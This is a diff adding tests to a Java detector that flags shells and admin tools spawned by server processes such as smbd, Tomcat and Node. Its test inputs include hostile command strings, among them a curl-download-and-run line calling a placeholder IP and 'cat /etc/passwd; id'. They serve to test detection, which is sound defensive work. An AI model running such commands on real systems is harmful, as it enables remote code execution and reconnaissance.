@@ -5,13 +5,18 @@ import static org.assertj.core.api.Assertions.assertThat;
 
 import io.hivesec.alert.Finding;
 import io.hivesec.alert.Severity;
+import io.hivesec.event.Endpoint;
 import io.hivesec.event.Event;
+import io.hivesec.event.NetworkListening;
 import io.hivesec.spi.Detector;
 import io.hivesec.testkit.Detecting;
 import io.hivesec.testkit.DetectorContract;
 import io.hivesec.testkit.Scene;
 import java.util.List;
 import org.junit.jupiter.api.Test;
+import org.junit.jupiter.params.ParameterizedTest;
+import org.junit.jupiter.params.provider.CsvSource;
+import org.junit.jupiter.params.provider.ValueSource;
 
 final class ServerSpawnsShellDetectorTest implements DetectorContract {
     private final Scene scene = Scene.in("web");
@@ -118,5 +123,82 @@ final class ServerSpawnsShellDetectorTest implements DetectorContract {
     void inspect_shellUnderOtherJvm_isQuiet() {
         scene.starts("/usr/bin/java", "java", "-jar", "batch.jar").starts("/bin/sh", "sh", "-c", "id");
         assertThatFindings(found()).areNone();
+    }
+
+    @ParameterizedTest
+    @ValueSource(strings = {"nohup /tmp/z &", "curl 203.0.113.9/e -o /tmp/e && sh /tmp/e", "id"})
+    void inspect_shellOfAFileServer_isFound(String command) {
+        scene.starts("/usr/sbin/smbd", "smbd").starts("/bin/sh", "sh", "-c", command);
+        assertThatFindings(found()).show("malicious-command.service-shell");
+    }
+
+    @ParameterizedTest
+    @ValueSource(strings = {"/usr/bin/procmail -d ann", "/usr/local/sbin/preexec ann", "/usr/bin/lpq -P'x'"})
+    void inspect_commandThatAServiceIsConfiguredToRun_isQuiet(String command) {
+        scene.starts("/usr/sbin/exim4", "exim4").starts("/bin/sh", "/bin/sh", "-c", command);
+        assertThatFindings(found()).areNone();
+    }
+
+    @ParameterizedTest
+    @CsvSource({"/usr/sbin/nginx, tcpdump", "/usr/sbin/mysqld, useradd", "/usr/sbin/smbd, strace"})
+    void inspect_toolThatNoServerHasAUseFor_isFound(String server, String tool) {
+        scene.starts(server, server).starts("/usr/bin/" + tool, tool, "-x");
+        assertThatFindings(found()).show("malicious-command.server-tool");
+    }
+
+    @Test
+    void inspect_sameToolOfAnAdministrator_isQuiet() {
+        scene.starts("/bin/bash", "-bash").starts("/usr/bin/tcpdump", "tcpdump");
+        assertThatFindings(found()).areNone();
+    }
+
+    @Test
+    void inspect_shellOfAnInterpretersTextUnderTomcat_isFound() {
+        tomcat().starts("/usr/bin/python3", "python3", "-c", "import os;os.popen('id')")
+                .starts("/bin/sh", "sh", "-c", "id");
+        assertThatFindings(found()).show("malicious-command.web-server-shell", "telling", "id");
+    }
+
+    @Test
+    void inspect_shellOfAnInterpretersScriptUnderTomcat_isQuiet() {
+        tomcat().starts("/usr/bin/python3", "python3", "/srv/report.py").starts("/bin/sh", "sh", "-c", "id -un");
+        assertThatFindings(found()).areNone();
+    }
+
+    @Test
+    void inspect_scriptLeftInADirectoryOfAll_isFound() {
+        scene.starts("/usr/sbin/httpd", "httpd").starts("/bin/bash", "bash", "/tmp/r.sh");
+        assertThatFindings(found()).show("malicious-command.web-server-shell");
+    }
+
+    @Test
+    void inspect_jobsStepWrittenThereByItsServer_isQuiet() {
+        scene.starts("/usr/bin/java", "java", "-jar", "/usr/share/java/jenkins.war")
+                .starts("/bin/sh", "sh", "-xe", "/tmp/jenkins7.sh");
+        assertThatFindings(found()).areNone();
+    }
+
+    @ParameterizedTest
+    @CsvSource({"0.0.0.0, true", "127.0.0.1, false"})
+    void inspect_lookAroundByAProgramThatListens_isFoundWhereOthersReachIt(String address, boolean isFound) {
+        Scene.Actor node = scene.starts("/usr/bin/node", "node", "server.js")
+                .does(context -> new NetworkListening(context, "tcp", Endpoint.of(address, 3000), 18));
+        node.starts("/bin/sh", "sh", "-c", "cat /etc/passwd; id");
+        if (isFound)
+            assertThatFindings(found()).show("malicious-command.web-server-shell", "telling", "/etc/passwd id");
+        else assertThatFindings(found()).areNone();
+    }
+
+    @Test
+    void inspect_oneQuestionByAProgramThatListens_isQuiet() {
+        scene.starts("/usr/bin/node", "node", "vite").listens(20, 5173).starts("/bin/sh", "sh", "-c", "id -u");
+        assertThatFindings(found()).areNone();
+    }
+
+    @Test
+    void inspect_serverByTheTitleThatItGaveItself_isFound() {
+        scene.starts("/usr/local/bin/ruby", "puma 6.4.0 (tcp://0.0.0.0:3000) [app]")
+                .starts("/bin/sh", "sh", "-c", "id;ls");
+        assertThatFindings(found()).show("malicious-command.web-server-shell");
     }
 }
